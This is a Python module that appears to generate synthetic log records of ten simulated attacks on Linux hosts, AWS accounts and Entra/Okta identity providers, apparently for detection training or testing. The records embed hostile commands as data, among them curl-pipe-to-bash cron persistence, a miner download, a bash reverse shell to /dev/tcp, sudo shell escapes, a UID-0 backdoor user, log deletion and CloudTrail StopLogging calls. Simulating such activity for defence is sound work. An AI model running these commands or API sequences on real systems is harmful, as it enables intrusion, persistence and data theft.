"""Scripts of attacks on Linux hosts, AWS accounts and identity providers."""

# ruff: noqa: E501 (command lines and records are kept whole)

from __future__ import annotations

from datetime import datetime
from typing import Any

from .base import Host, Person, World
from .cloud import Cloud
from .linux import Linux
from .ordinary import Directory, Fleet, Tenant, background_traffic, background_web

PENTEST_AGENTS = (
    "aws-cli/1.29.62 Python/3.11.6 Linux/6.5.0-kali3-amd64 botocore/1.31.62",
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.6.9-amd64",
    "aws-cli/2.12.1 Python/3.11.4 Linux/5.15.0 exe/x86_64.ubuntu.22 prompt/off command/{}",
)


def _fleet(w: World) -> Fleet:
    rng = w.rng
    kind = rng.random()
    return Fleet(w, hosts=rng.randint(3, 12), users=rng.randint(5, 22), audit=kind > 0.15, auth=kind < 0.85)


# ---- Linux -------------------------------------------------------------------------------------
def persist(w: World, lx: Linux, person: Person, host: Host, ses: int, at: datetime, *, root: bool) -> datetime:
    """Write a way back: a key, a cron job, or both."""
    rng = w.rng
    uid = 0 if root else person.uid
    home = "/root" if root else f"/home/{person.name}"
    ip = w.outside_ip()
    lx.run(
        at,
        host,
        ["/bin/bash", "-c", f"echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI kali@kali >> {home}/.ssh/authorized_keys"],
        person,
        ses,
        uid=uid,
    )
    lx.touch(
        w.later(at, 0.01, 0.1),
        host,
        "/usr/bin/bash",
        f"{home}/.ssh/authorized_keys",
        person,
        ses,
        uid=uid,
        key="ssh_keys",
    )
    at = w.later(at, 10, 60)
    lx.run(
        at,
        host,
        ["/bin/bash", "-c", f"(crontab -l; echo '*/5 * * * * curl -fsSL http://{ip}/x.sh | bash') | crontab -"],
        person,
        ses,
        uid=uid,
    )
    lx.run(w.later(at, 0.05, 0.1), host, ["crontab", "-"], person, ses, uid=uid)
    if lx.auth and rng.random() < 0.7:
        lx.line(
            w.later(at, 0.1, 0.2),
            host,
            "crontab",
            lx.pid(),
            f"({'root' if root else person.name}) REPLACE ({'root' if root else person.name})",
            None if root else person,
            pri=78,
        )
    return w.later(at, 5, 30)


def ssh_brute(w: World) -> None:
    """Passwords guessed over ssh, one opens; a key and a cron job are left behind."""
    f = _fleet(w)
    rng, lx = w.rng, f.lx
    hit = rng.choice(f.users)
    hit.quiet = rng.random() < 0.5
    f.day()
    host, ip = rng.choice(f.hosts), w.outside_ip()
    guessed = rng.sample([u for u in f.users if u is not hit], rng.randint(2, min(6, len(f.users) - 1)))
    invalid = rng.sample(["admin", "test", "oracle", "ubuntu", "git", "postgres", "guest", "pi"], rng.randint(2, 6))
    with w.hostile():
        at = w.moment(0.3, 0.7)
        rounds = rng.randint(4, 12)
        for _ in range(rounds):
            for name in [*guessed, hit]:
                at = w.later(at, 0.5, 4)
                lx.ssh_fail(at, name, host, ip)
            for name in invalid:
                at = w.later(at, 0.5, 4)
                lx.ssh_fail(at, name, host, ip, valid=False)
        at = w.later(at, 1, 6)
        ses = lx.ssh_in(at, hit, host, ip, method="password")
        at = w.later(at, 20, 90)
        for argv in (["uname", "-a"], ["id"], ["cat", "/etc/passwd"], ["ss", "-tlnp"]):
            at = w.later(at, 2, 20)
            lx.run(at, host, argv, hit, ses)
        drop = w.outside_ip()
        lx.run(w.later(at, 5, 20), host, ["wget", "-q", f"http://{drop}/kinsing", "-O", "/tmp/.k"], hit, ses)
        lx.run(w.later(at, 21, 23), host, ["chmod", "+x", "/tmp/.k"], hit, ses)
        lx.run(w.later(at, 24, 26), host, ["/tmp/.k"], hit, ses)
        at = persist(w, lx, hit, host, ses, w.later(at, 30, 60), root=False)
    w.take_over(hit)
    w.target(*guessed)
    w.neutral("root", *invalid)


def sudo_abuse(w: World) -> None:
    """A colleague's key used from elsewhere; sudo to root, shadow read, sometimes a second root made."""
    f = _fleet(w)
    rng, lx = w.rng, f.lx
    thief = rng.choice(f.users)
    thief.quiet = rng.random() < 0.5
    f.day()
    host, ip = rng.choice(f.hosts), w.outside_ip()
    name = rng.choice(["sysupdate", "haldaemon2", "support", "ftpuser", "nagios2"])
    made = rng.random() < 0.6
    with w.hostile():
        at = w.moment(0.3, 0.8)
        ses = lx.ssh_in(at, thief, host, ip)
        at = w.later(at, 10, 60)
        lx.run(at, host, ["sudo", "-l"], thief, ses)
        commands = [
            "/bin/cat /etc/shadow",
            rng.choice(
                [
                    "/usr/bin/find / -exec /bin/sh ;",
                    "/usr/bin/vim -c :!/bin/sh",
                    "/bin/bash -p",
                    '/usr/bin/awk BEGIN{system("/bin/sh")}',
                ]
            ),
        ]
        if made:
            commands += [
                f"/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {name}",
                f"/usr/sbin/usermod -aG sudo {name}",
            ]
        commands += [
            "/usr/bin/chattr -i /etc/passwd",
            "/bin/sh -c echo thief ALL=(ALL) NOPASSWD:ALL >> /etc/sudoers",
            "/usr/bin/rm -f /var/log/auth.log",
        ]
        for command in commands:
            at = w.later(at, 8, 60)
            lx.sudo(at, thief, host, command, ses)
            if "useradd" in command:
                lx.line(
                    w.later(at, 0.1, 0.2),
                    host,
                    "useradd",
                    lx.pid(),
                    f"new user: name={name}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
                    name,
                )
                if lx.audit:
                    lx._audit(
                        w.later(at, 0.1, 0.2),
                        host,
                        "ADD_USER",
                        uid=0,
                        auid=thief.uid,
                        ses=ses,
                        who=[thief, name],
                        msg=f'op=adding user id=0 acct="{name}" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/1 res=success',
                    )
        persist(w, lx, thief, host, ses, w.later(at, 10, 40), root=True)
        if made and rng.random() < 0.5 and lx.auth:
            at = w.later(at, 300, 1200)
            lx.line(at, host, "sshd", lx.pid(), f"Accepted password for {name} from {ip} port 50110 ssh2", name)
    w.take_over(thief)
    if made:
        w.create(name)
    w.neutral("root")


def webshell_tomcat(w: World) -> None:
    """A Java server's child shells: discovery, download, a miner; no person's account takes part."""
    rng = w.rng
    f = Fleet(w, hosts=rng.randint(3, 8), users=rng.randint(5, 20), audit=True, auth=rng.random() < 0.7)
    lx, cloud = f.lx, Cloud(w)
    f.day()
    host, ip = f.hosts[0], w.outside_ip()
    service, uid, comm = rng.choice(
        [("tomcat", 1001, "java"), ("www-data", 33, "php-fpm8.2"), ("jenkins", 988, "java")]
    )
    while any(p.uid == uid for p in f.users):
        uid += 400
    background_web(w, cloud, host, rng.randint(80, 250))
    with w.hostile():
        at = w.moment(0.3, 0.8)
        for command in rng.sample(
            [
                "whoami",
                "id",
                "uname -a",
                "cat /etc/passwd",
                "ps aux",
                "ls -la /home",
                "curl -s http://169.254.169.254/latest/meta-data/",
            ],
            rng.randint(3, 5),
        ):
            at = w.later(at, 4, 60)
            cloud.web(
                at,
                host,
                ip,
                f"GET /uploads/{'x.jsp' if comm == 'java' else 'x.php'}?cmd={command.replace(' ', '%20')} HTTP/1.1",
                200,
                rng.randrange(90, 4000),
                "python-requests/2.31.0",
            )
            pid = lx.run(
                w.later(at, 0.05, 0.1),
                host,
                ["/bin/sh", "-c", command],
                None,
                0,
                uid=uid,
                tty="(none)",
                euser=service,
                cwd="/opt/app",
                comm="sh",
            )
            lx.run(
                w.later(at, 0.1, 0.2),
                host,
                command.split(),
                None,
                0,
                uid=uid,
                parent=pid,
                tty="(none)",
                euser=service,
                cwd="/opt/app",
            )
        drop = w.outside_ip()
        at = w.later(at, 20, 60)
        lx.run(
            at,
            host,
            ["/bin/bash", "-c", f"curl -fsSL http://{drop}/m.sh | bash"],
            None,
            0,
            uid=uid,
            tty="(none)",
            euser=service,
        )
        lx.run(
            w.later(at, 0.2, 0.4),
            host,
            ["curl", "-fsSL", f"http://{drop}/m.sh"],
            None,
            0,
            uid=uid,
            tty="(none)",
            euser=service,
        )
        lx.run(
            w.later(at, 3, 6),
            host,
            ["/bin/bash", "-c", f"bash -i >& /dev/tcp/{drop}/4444 0>&1"],
            None,
            0,
            uid=uid,
            tty="(none)",
            euser=service,
        )
    for p in f.users[:1]:
        at2 = w.later(at, -600, 600)
        f.work(p, host, at2)
        w.bystander(p, "worked on the host at the same time")


# ---- AWS ---------------------------------------------------------------------------------------
def _tenant(w: World) -> Tenant:
    rng = w.rng
    return Tenant(w, users=rng.randint(5, 20), instances=rng.randint(3, 8))


def _loot(
    w: World, t: Tenant, who: dict[str, Any], ip: str, agent: str, at: datetime, *, n: int, host: Host | None = None
) -> datetime:
    rng, c = w.rng, t.cloud
    bucket = rng.choice(t.buckets[:2])
    c.aws(
        at,
        who,
        "s3",
        "ListBuckets",
        ip=ip,
        agent=agent.format("s3.ls"),
        request={"Host": "s3.amazonaws.com"},
        host=host,
    )
    for i in range(n):
        at = w.later(at, 0.5, 6)
        if i % 9 == 0:
            c.aws(
                at,
                who,
                "s3",
                "ListObjects",
                ip=ip,
                agent=agent.format("s3.sync"),
                request={"bucketName": bucket},
                host=host,
            )
        c.get_object(
            at,
            who,
            bucket,
            f"2026/{rng.choice(['dump', 'export', 'customers'])}-{i:04d}.csv",
            ip=ip,
            agent=agent.format("s3.sync"),
            host=host,
        )
    return at


def _survey(
    w: World,
    t: Tenant,
    who: dict[str, Any],
    ip: str,
    agent: str,
    at: datetime,
    *,
    denied: float = 0.3,
    host: Host | None = None,
) -> datetime:
    c, rng = t.cloud, w.rng
    for service, call in (
        ("sts", "GetCallerIdentity"),
        *rng.sample(
            [
                ("iam", "ListUsers"),
                ("iam", "ListRoles"),
                ("iam", "GetAccountAuthorizationDetails"),
                ("ec2", "DescribeInstances"),
                ("secretsmanager", "ListSecrets"),
                ("iam", "ListAttachedUserPolicies"),
                ("s3", "ListBuckets"),
                ("ec2", "DescribeSnapshots"),
                ("ses", "GetSendQuota"),
            ],
            6,
        ),
    ):
        at = w.later(at, 1, 25)
        c.aws(
            at,
            who,
            service,
            call,
            ip=ip,
            agent=agent.format(call),
            error="AccessDenied" if rng.random() < denied and call != "GetCallerIdentity" else None,
            host=host,
        )
    return at


def aws_key_theft(w: World) -> None:
    """A user's access key used from elsewhere: survey, secrets, a bucket copied out."""
    t = _tenant(w)
    rng, c = w.rng, t.cloud
    victim = rng.choice(t.users)
    victim.quiet = rng.random() < 0.5
    t.day()
    ip, agent = w.outside_ip(), rng.choice(PENTEST_AGENTS)
    with w.hostile():
        me = c.iam_user(victim)
        at = _survey(w, t, me, ip, agent, w.moment(0.3, 0.7))
        for _ in range(rng.randint(1, 4)):
            at = w.later(at, 5, 40)
            c.aws(
                at,
                me,
                "secretsmanager",
                "GetSecretValue",
                ip=ip,
                agent=agent.format("x"),
                request={"secretId": f"prod/db-{rng.randrange(9)}"},
            )
        at = _loot(w, t, me, ip, agent, at, n=rng.randint(15, 60))
        if rng.random() < 0.4:
            c.aws(
                w.later(at, 5, 30),
                me,
                "cloudtrail",
                "StopLogging",
                ip=ip,
                agent=agent.format("x"),
                request={"name": "management-events"},
            )
    w.take_over(victim)


def ec2_role_theft(w: World) -> None:
    """An instance's role credentials taken through the metadata service and used from outside."""
    t = _tenant(w)
    rng, c = w.rng, t.cloud
    host = rng.choice(t.instances)
    seen = rng.random() < 0.5
    if not seen:
        t.instances.remove(host)
    t.day()
    ip, agent = w.outside_ip(), rng.choice(PENTEST_AGENTS)
    with w.hostile():
        key = c.key_id("ASIA")
        if seen:
            key = next(
                (
                    r.body["userIdentity"]["accessKeyId"]
                    for r in w.records
                    if r.stream == "cloudtrail"
                    and str(r.body["userIdentity"].get("arn", "")).endswith(host.instance_id)
                ),
                key,
            )
        who = c.role(t.app_role, host.instance_id, key=key, ec2=True)
        at = _survey(w, t, who, ip, agent, w.moment(0.3, 0.7), denied=0.6)
        _loot(w, t, who, ip, agent, at, n=rng.randint(10, 50))
    w.take_over(c.session_name(t.app_role, host.instance_id))
    w.attacked(host.instance_id)


def role_chain(w: World) -> None:
    """A stolen user key walks through two roles to secrets and to the trail itself."""
    t = _tenant(w)
    rng, c = w.rng, t.cloud
    victim = rng.choice(t.users)
    victim.quiet = rng.random() < 0.5
    t.day()
    ip, agent = w.outside_ip(), rng.choice(PENTEST_AGENTS)
    s1, s2 = (
        rng.choice(["botocore-session-17100", "dev-shell", victim.name + "-cli", victim.name]),
        rng.choice(["AWSCLI-Session", "tmp-session", "audit"]),
    )
    with w.hostile():
        me = c.iam_user(victim)
        at = _survey(w, t, me, ip, agent, w.moment(0.3, 0.7))
        first = c.assume(
            w.later(at, 10, 60), me, t.dev_role, s1, ip=ip, agent=agent.format("sts.assume-role"), key=c.key_id("ASIA")
        )
        at = _survey(w, t, first, ip, agent, w.later(at, 70, 200))
        second = c.assume(
            w.later(at, 10, 60),
            first,
            t.admin_role,
            s2,
            ip=ip,
            agent=agent.format("sts.assume-role"),
            key=c.key_id("ASIA"),
        )
        at = w.later(at, 70, 200)
        for _ in range(rng.randint(2, 6)):
            at = w.later(at, 3, 20)
            c.aws(
                at,
                second,
                "secretsmanager",
                "GetSecretValue",
                ip=ip,
                agent=agent.format("x"),
                request={"secretId": f"prod/{rng.choice(['db', 'api', 'pay'])}"},
            )
        c.aws(
            w.later(at, 5, 30),
            second,
            "cloudtrail",
            rng.choice(["StopLogging", "DeleteTrail"]),
            ip=ip,
            agent=agent.format("x"),
            request={"name": "management-events"},
        )
        c.aws(
            w.later(at, 31, 60),
            second,
            "ec2",
            "ModifySnapshotAttribute",
            ip=ip,
            agent=agent.format("x"),
            request={
                "snapshotId": "snap-0123",
                "attributeType": "CREATE_VOLUME_PERMISSION",
                "createVolumePermission": {"add": {"items": [{"userId": "210987654321"}]}},
            },
        )
        _loot(w, t, second, ip, agent, w.later(at, 61, 90), n=rng.randint(5, 25))
    w.take_over(victim, c.session_name(t.dev_role, s1), c.session_name(t.admin_role, s2))


def create_key_persist(w: World) -> None:
    """A stolen administrator makes a user with a key and a strong policy, then uses it."""
    t = _tenant(w)
    rng, c = w.rng, t.cloud
    victim = rng.choice(t.users)
    victim.quiet = rng.random() < 0.5
    t.day()
    ip, agent = w.outside_ip(), rng.choice(PENTEST_AGENTS)
    name = rng.choice(["backup-svc2", "cloudwatch-agent", "support-user", "DaleTheAdmin", "s3-sync"])
    other = rng.choice([u for u in t.users if u is not victim])
    onto_other = rng.random() < 0.35
    with w.hostile():
        me = c.iam_user(victim)
        at = _survey(w, t, me, ip, agent, w.moment(0.25, 0.6), denied=0.1)
        if onto_other:
            key = c.key_id()
            c.aws(
                w.later(at, 10, 40),
                me,
                "iam",
                "CreateAccessKey",
                ip=ip,
                agent=agent.format("iam.create-access-key"),
                request={"userName": other.name},
                also=(other.name,),
                response={"accessKey": {"accessKeyId": key, "status": "Active", "userName": other.name}},
            )
            them = c.iam_user(other, key=key)
        else:
            key = c.key_id()
            c.aws(
                w.later(at, 10, 40),
                me,
                "iam",
                "CreateUser",
                ip=ip,
                agent=agent.format("iam.create-user"),
                request={"userName": name},
                also=(name,),
                response={"user": {"userName": name, "arn": f"arn:aws:iam::{c.account}:user/{name}"}},
            )
            c.aws(
                w.later(at, 41, 60),
                me,
                "iam",
                "AttachUserPolicy",
                ip=ip,
                agent=agent.format("iam.attach-user-policy"),
                also=(name,),
                request={"userName": name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
            )
            c.aws(
                w.later(at, 61, 80),
                me,
                "iam",
                "CreateAccessKey",
                ip=ip,
                agent=agent.format("iam.create-access-key"),
                request={"userName": name},
                also=(name,),
                response={"accessKey": {"accessKeyId": key, "status": "Active", "userName": name}},
            )
            if rng.random() < 0.4:
                c.aws(
                    w.later(at, 81, 90),
                    me,
                    "iam",
                    "CreateLoginProfile",
                    ip=ip,
                    agent=agent.format("iam.create-login-profile"),
                    request={"userName": name, "passwordResetRequired": False},
                    also=(name,),
                )
            them = c.iam_user(name, key=key)
        if onto_other or rng.random() < 0.7:
            at = _survey(w, t, them, ip, agent, w.later(at, 300, 2000), denied=0.1)
            _loot(w, t, them, ip, agent, at, n=rng.randint(5, 30))
    w.take_over(victim)
    if onto_other:
        w.take_over(other)
    else:
        w.create(name)


# ---- identity providers ------------------------------------------------------------------------
def entra_mfa_fatigue(w: World) -> None:
    """A known password, refused pushes until one is accepted; then consent, a new method, a mailbox."""
    rng = w.rng
    d = Directory(w, users=rng.randint(6, 40), okta=False)
    c = d.cloud
    victim = rng.choice(d.users)
    victim.quiet = rng.random() < 0.3
    d.day()
    ip, agent = w.outside_ip(), "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
    country, city = rng.choice([("NG", "Lagos"), ("RU", "Kazan"), ("BR", "Recife"), ("VN", "Hanoi")])
    with w.hostile():
        at = w.moment(0.3, 0.7)
        for _ in range(rng.randint(5, 25)):
            at = w.later(at, 15, 90)
            c.signin(
                at,
                victim,
                ip=ip,
                code=500121,
                reason="Authentication failed during strong authentication request.",
                country=country,
                city=city,
                agent=agent,
                mfa="MFA denied; user declined the authentication",
                risk=rng.choice(["none", "medium"]),
            )
        at = w.later(at, 15, 60)
        c.signin(
            at,
            victim,
            ip=ip,
            country=country,
            city=city,
            agent=agent,
            mfa="MFA completed in Azure AD",
            risk=rng.choice(["medium", "high"]),
        )
        target: dict[str, Any] = {
            "id": c.object_id(victim),
            "displayName": victim.given,
            "type": "User",
            "userPrincipalName": victim.upn,
            "modifiedProperties": [],
        }
        at = w.later(at, 30, 200)
        c.directory(
            at,
            victim,
            "User registered security info",
            category="UserManagement",
            ip=ip,
            targets=[target],
            service="Authentication Methods",
        )
        if rng.random() < 0.7:
            app = {
                "id": str(c.uuid()),
                "displayName": rng.choice(["eM Client", "PerfectData Software", "Mail Backup"]),
                "type": "ServicePrincipal",
                "userPrincipalName": None,
                "modifiedProperties": [
                    {"displayName": "ConsentContext.IsAdminConsent", "oldValue": None, "newValue": '"False"'},
                    {
                        "displayName": "ConsentAction.Permissions",
                        "oldValue": "[]",
                        "newValue": '"[[Scope: Mail.Read Mail.Send offline_access]]"',
                    },
                ],
            }
            c.directory(
                w.later(at, 60, 300),
                victim,
                "Consent to application",
                category="ApplicationManagement",
                ip=ip,
                targets=[app],
            )
        for _ in range(3):
            at = w.later(at, 60, 600)
            c.signin(
                at,
                victim,
                ip=ip,
                country=country,
                city=city,
                agent=agent,
                app="Office 365 Exchange Online",
                mfa="MFA requirement satisfied by claim in the token",
            )
    w.take_over(victim)


def entra_spray(w: World) -> None:
    """Sign-ins tried over many accounts, one opens and is given a directory role."""
    rng = w.rng
    d = Directory(w, users=rng.randint(12, 45), okta=False)
    c = d.cloud
    victim = rng.choice([*d.users, d.admin])
    victim.quiet = rng.random() < 0.4
    d.day()
    sprayed = rng.sample([u for u in d.users if u is not victim], rng.randint(8, min(30, len(d.users) - 1)))
    ips = [w.outside_ip() for _ in range(rng.randint(1, 3))]
    agent = rng.choice(["CBAInPROD", "python-requests/2.28.1", "Mozilla/5.0 (compatible; BAV2ROPC)"])
    kw: dict[str, Any] = {
        "agent": agent,
        "country": "RU",
        "city": "Perm",
        "client": rng.choice(["Authenticated SMTP", "Other clients", "Browser"]),
        "app": "Microsoft Azure CLI",
    }
    with w.hostile():
        at = w.moment(0.2, 0.6)
        for _ in range(rng.randint(1, 3)):
            for p in rng.sample(sprayed, len(sprayed)):
                at = w.later(at, 1, 12)
                c.signin(
                    at,
                    p,
                    ip=rng.choice(ips),
                    code=50126,
                    reason="Error validating credentials due to invalid username or password.",
                    **kw,
                )
        at = w.later(at, 5, 40)
        c.signin(
            at,
            victim,
            ip=ips[0],
            code=50126,
            reason="Error validating credentials due to invalid username or password.",
            **kw,
        )
        at = w.later(at, 5, 40)
        c.signin(at, victim, ip=ips[0], risk="high", **kw)
        c.signin(w.later(at, 60, 300), victim, ip=ips[0], **(kw | {"app": "Azure Portal"}))
        at = w.later(at, 400, 900)
        role = {
            "id": c.object_id(victim),
            "displayName": victim.given,
            "type": "User",
            "userPrincipalName": victim.upn,
            "modifiedProperties": [
                {"displayName": "Role.DisplayName", "oldValue": None, "newValue": '"Global Administrator"'}
            ],
        }
        if victim is d.admin:
            made = Person(
                rng.choice(["svc-sync", "helpdesk2", "o365backup"]), "", "", "user", "Service", "Account", uid=7
            )
            made.upn = f"{made.name}@{w.mail_domain}"
            new: dict[str, Any] = {
                "id": c.object_id(made),
                "displayName": made.name,
                "type": "User",
                "userPrincipalName": made.upn,
                "modifiedProperties": [],
            }
            c.directory(at, victim, "Add user", category="UserManagement", ip=ips[0], targets=[new], also=(made,))
            new = new | {"modifiedProperties": role["modifiedProperties"]}
            c.directory(
                w.later(at, 20, 60),
                victim,
                "Add member to role",
                category="RoleManagement",
                ip=ips[0],
                targets=[new],
                also=(made,),
            )
            w.create(made.name)
        else:
            c.directory(
                at,
                victim,
                "User registered security info",
                category="UserManagement",
                ip=ips[0],
                targets=[role | {"modifiedProperties": []}],
                service="Authentication Methods",
            )
    w.take_over(victim)
    w.target(*sprayed)


def okta_helpdesk(w: World) -> None:
    """A helpdesk talked into resetting factors; the caller enrols their own and signs in."""
    rng = w.rng
    d = Directory(w, users=rng.randint(6, 40), okta=True)
    c = d.cloud
    victim = rng.choice([*d.users, d.admin])
    victim.quiet = rng.random() < 0.3
    desk = d.helpdesk[1]
    d.day()
    ip, agent = (
        w.outside_ip(),
        rng.choice(
            [
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/125.0",
            ]
        ),
    )
    country = rng.choice(["Netherlands", "Romania", "United States", "Brazil"])
    at = w.moment(0.3, 0.7)
    c.okta(
        at,
        desk,
        "user.mfa.factor.reset_all",
        ip=d.homes[desk.name],
        message="Reset all factors for user",
        targets=[c.okta_user(victim)],
    )
    c.okta(
        w.later(at, 20, 90),
        desk,
        "user.account.reset_password",
        ip=d.homes[desk.name],
        message="Fired when the user's Okta password is reset",
        targets=[c.okta_user(victim)],
    )
    w.bystander(desk, "reset the factors on request, from its own address")
    with w.hostile():
        at = w.later(at, 120, 900)
        kw: dict[str, Any] = {"ip": ip, "agent": agent, "country": country}
        c.okta(
            at,
            victim,
            "user.session.start",
            message="User login to Okta",
            debug={
                "behaviors": "{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE}",
                "risk": "{level=HIGH}",
            },
            severity="WARN",
            **kw,
        )
        c.okta(
            w.later(at, 20, 60),
            victim,
            "user.mfa.factor.activate",
            message="Activate factor or authenticator enrollment",
            targets=[c.okta_user(victim)],
            debug={"factor": "TOKEN_SOFTWARE_TOTP"},
            **kw,
        )
        for app in rng.sample(["Office 365", "Salesforce", "AWS Account Federation", "CyberArk", "Jira"], 3):
            at = w.later(at, 30, 200)
            c.okta(
                at,
                victim,
                "user.authentication.sso",
                message="User single sign on to app",
                targets=[
                    {"id": "0oa1", "type": "AppInstance", "alternateId": app, "displayName": app, "detailEntry": None}
                ],
                **kw,
            )
        if victim is d.admin or rng.random() < 0.3:
            at = w.later(at, 60, 300)
            c.okta(at, victim, "user.session.access_admin_app", message="User accessing Okta admin app", **kw)
            made = Person(rng.choice(["it.support2", "okta-sync", "svc.hr"]), "", "", "user", "Svc", "Account", uid=9)
            made.upn = f"{made.name}@{w.mail_domain}"
            c.okta(
                w.later(at, 30, 90),
                victim,
                "user.lifecycle.create",
                message="Create Okta user",
                targets=[c.okta_user(made)],
                also=(made,),
                **kw,
            )
            c.okta(
                w.later(at, 91, 160),
                victim,
                "user.account.privilege.grant",
                message="Grant user privilege",
                targets=[c.okta_user(made)],
                also=(made,),
                debug={"privilegeGranted": "Super administrator"},
                severity="WARN",
                **kw,
            )
            w.create(made.name)
    w.take_over(victim)


FAMILIES = {
    f.__name__: f
    for f in (
        ssh_brute,
        sudo_abuse,
        webshell_tomcat,
        aws_key_theft,
        ec2_role_theft,
        role_chain,
        create_key_persist,
        entra_mfa_fatigue,
        entra_spray,
        okta_helpdesk,
    )
}
__all__ = ["FAMILIES", "background_traffic"]
